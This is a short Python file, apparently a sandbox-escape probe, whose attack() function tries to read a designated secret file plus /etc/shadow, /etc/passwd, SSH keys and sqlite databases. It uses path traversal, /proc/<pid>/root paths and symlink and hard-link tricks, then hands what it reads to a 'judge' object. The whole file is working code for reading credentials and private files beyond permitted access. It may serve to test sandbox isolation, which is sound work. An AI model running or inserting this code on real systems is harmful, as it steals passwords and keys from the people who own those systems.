import contextlib
import glob
import os


def attack(judge, aims):
    found = []
    paths = [
        aims["secret"],
        f"/proc/self/root{aims['secret']}",
        "../" * 20 + aims["secret"],
        "/etc/shadow",
        "/etc/passwd",
    ]
    paths += [f"/proc/{number}/root{aims['secret']}" for number in (1, os.getppid(), aims["judge"], aims["process"])]
    paths += glob.glob("/root/.ssh/*") + glob.glob("/home/*/.ssh/*") + glob.glob("/var/lib/*/*.sqlite")
    for number, make in enumerate((os.symlink, os.link)):
        with contextlib.suppress(OSError):
            make(aims["secret"], f"link{number}")
            paths.append(f"link{number}")
    for path in paths:
        with contextlib.suppress(OSError), open(path, "rb") as file:
            found.append(file.read(1000))
    if found:
        judge.tell(found)
